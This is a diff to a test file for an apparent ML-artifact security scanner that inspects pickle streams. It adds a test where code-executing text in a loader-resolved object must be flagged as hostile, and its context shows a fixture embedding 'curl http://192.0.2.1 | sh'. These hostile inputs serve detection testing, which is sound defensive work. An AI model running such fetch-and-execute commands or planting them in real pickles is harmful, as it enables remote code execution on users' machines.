@@ -13,7 +13,7 @@ from mlsec.artifacts.facts import FactKind, Format
 from mlsec.artifacts.inspect import inspect
 from mlsec.artifacts.pickle.texts import WORDS
 from mlsec.artifacts.window import Window
-from mlsec.core.closed_sets import Severity
+from mlsec.core.closed_sets import GapReason, Severity
 from tests.artifacts.builders import pickles as make
 
 
@@ -110,3 +110,16 @@ def test_an_argument_is_seen_before_what_fills_up_the_others() -> None:
     call = make.text("curl http://192.0.2.1 | sh") + fillers + b"\x86R"
     found = inspect(Window.of(make.stream(function + call))).facts
     assert FactKind.HOSTILE_ARGUMENT in {fact.kind for fact in found}
+
+
+@pytest.mark.parametrize(
+    "said", ["__import__('os').system('echo inert')", "exec(open('x').read())"]
+)
+def test_an_object_that_only_the_loader_can_find_is_a_hole_and_its_text_is_judged(
+    said: str,
+) -> None:
+    for identity, is_told in ((said, True), ("weights/7", False)):
+        found = inspect(Window.of(make.stream(make.text(identity), b"Q")))
+        kinds = {fact.kind for fact in found.facts}
+        assert (FactKind.HOSTILE_ARGUMENT in kinds) is is_told
+        assert [hole.reason for hole in found.holes] == [GapReason.UNRESOLVED]
